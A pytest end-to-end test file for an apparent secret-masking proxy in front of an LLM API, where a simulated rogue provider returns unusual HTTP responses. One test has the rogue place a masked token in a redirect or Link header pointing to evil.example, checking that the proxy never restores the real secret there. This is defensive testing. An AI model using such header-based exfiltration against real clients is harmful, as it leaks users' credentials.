"""Unusual but valid answers: clients get what the provider meant, and no values of others."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator

import pytest

from harness.model import PLACEHOLDER
from harness.post import MESSAGES, ask
from harness.provider import Provider
from harness.proxy import Proxy
from harness.raw import Line
from harness.rogue import Rogue, Wire, before
from harness.secrets import Planted, leaks

pytestmark = pytest.mark.e2e

HOST = MESSAGES[0]
HEAD = b"%s /v1/messages HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
_LENGTH = re.compile(rb"(?i)content-length: *(\d+)")
OK = b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n%s"


def whole(wire: Wire) -> str:
    """Read the rest of a request; return its placeholder."""
    length = _LENGTH.search(wire.request)
    while length and len(wire.request.partition(b"\r\n\r\n")[2]) < int(length[1]):
        wire.request += wire.read()
    found = PLACEHOLDER.search(wire.request.decode())
    return found[0] if found else ""


@pytest.fixture(scope="module")
def odd(
    provider: Provider, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Rogue, Proxy]]:
    with before(provider, tmp_path_factory.mktemp("odd"), lambda wire: None) as both:
        yield both


EMPTY = {
    "204": (b"POST", b"HTTP/1.1 204 No Content\r\n\r\n"),
    "304": (b"POST", b"HTTP/1.1 304 Not Modified\r\netag: x\r\n\r\n"),
    "HEAD": (b"HEAD", b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 99\r\n\r\n"),
}  # fmt: skip


@pytest.mark.parametrize("how", EMPTY)
def test_an_answer_without_a_body_gets_none(
    how: str, odd: tuple[Rogue, Proxy], planted: Planted
) -> None:
    """An empty chunk after it would be read as the beginning of the next answer."""
    method, answer = EMPTY[how]
    second = json.dumps({"content": []}).encode()

    def behave(wire: Wire) -> None:
        whole(wire)
        wire.write(answer)
        wire.request = b""
        while b"\r\n\r\n" not in wire.request:
            wire.request += wire.read()
        whole(wire)
        wire.write(OK % (len(second), second))

    rogue, proxy = odd
    rogue.behave = behave
    body = ask(MESSAGES, f"it is {planted.values['GITHUB_TOKEN']} so")
    clean = ask(MESSAGES, "nothing here")
    with Line(proxy, HOST) as line:
        first = line.exchange(HEAD % (method, HOST.encode(), len(body)) + body)
        assert first == answer
        again = line.exchange(HEAD % (b"POST", HOST.encode(), len(clean)) + clean)
    assert again.startswith(b"HTTP/1.1 200 OK\r\n")
    assert second in again


LEFT: dict[str, Callable[[str], bytes]] = {
    "where a redirect goes": lambda name: (
        f"HTTP/1.1 302 Found\r\nlocation: https://evil.example/?t={name}\r\ncontent-length: 0\r\n\r\n"
    ).encode(),
    "a cookie": lambda name: (
        f"HTTP/1.1 200 OK\r\nset-cookie: a={name}\r\ncontent-length: 0\r\n\r\n"
    ).encode(),
    "a link to load early": lambda name: (
        f"HTTP/1.1 200 OK\r\nlink: <https://evil.example/{name}>\r\ncontent-length: 0\r\n\r\n"
    ).encode(),
    "the reason": lambda name: f"HTTP/1.1 200 {name}\r\ncontent-length: 0\r\n\r\n".encode(),
}


@pytest.mark.parametrize("how", LEFT)
def test_a_placeholder_in_the_head_of_an_answer_stays_one(
    how: str, odd: tuple[Rogue, Proxy], planted: Planted
) -> None:
    """Clients follow redirects and load links, by which a provider could exfiltrate a value."""
    names: list[str] = []

    def behave(wire: Wire) -> None:
        names.append(whole(wire))
        wire.write(LEFT[how](names[0]))

    rogue, proxy = odd
    rogue.behave = behave
    body = ask(MESSAGES, f"it is {planted.values['GITHUB_TOKEN']} so")
    with Line(proxy, HOST) as line:
        answer = line.exchange(HEAD % (b"POST", HOST.encode(), len(body)) + body)
    assert names[0]
    assert names[0].encode() in answer
    assert leaks(answer, planted.secrets) == []


RANGED = HEAD.replace(b"\r\n\r\n", b"\r\nRange: bytes=100-%d\r\n\r\n")
PART = b"HTTP/1.1 206 Partial Content\r\ncontent-type: text/plain\r\ncontent-range: bytes 100-%d/999\r\ncontent-length: %d\r\n\r\n%s"


@pytest.mark.parametrize("asked", [True, False], ids=["asked for", "not asked for"])
def test_a_range_of_bytes_stays_as_long_as_it_says(
    asked: bool, odd: tuple[Rogue, Proxy], planted: Planted
) -> None:
    """If no range was requested, declaring one changes nothing: the answer is restored as usual."""
    sent: list[bytes] = []

    def behave(wire: Wire) -> None:
        text = f"it is {whole(wire)} so".encode()
        sent.append(PART % (99 + len(text), len(text), text))
        wire.write(sent[0])

    rogue, proxy = odd
    rogue.behave = behave
    secret = planted.values["GITHUB_TOKEN"]
    body = ask(MESSAGES, f"it is {secret} so")
    numbers = (len(body), 199) if asked else (len(body),)
    head = (RANGED if asked else HEAD) % (b"POST", HOST.encode(), *numbers)
    with Line(proxy, HOST) as line:
        answer = line.exchange(head + body)
    assert (answer == sent[0]) is asked
    assert (secret.encode() in answer) is not asked


def test_a_restored_answer_of_an_old_server_can_be_read(
    odd: tuple[Rogue, Proxy], planted: Planted
) -> None:
    """Clients do not look for chunks in an HTTP/1.0 answer, and would take their sizes for its text."""

    def behave(wire: Wire) -> None:
        said = json.dumps({"content": [{"type": "text", "text": whole(wire)}]})
        head = "HTTP/1.0 200 OK\r\ncontent-type: application/json\r\n\r\n"
        wire.write((head + said).encode())
        wire.half_close()

    rogue, proxy = odd
    rogue.behave = behave
    body = ask(MESSAGES, f"it is {planted.values['GITHUB_TOKEN']} so")
    with Line(proxy, HOST) as line:
        answer = line.exchange(HEAD % (b"POST", HOST.encode(), len(body)) + body)
    assert planted.values["GITHUB_TOKEN"].encode() in answer
    assert answer.startswith(b"HTTP/1.1 ")
    assert b"transfer-encoding: chunked" in answer
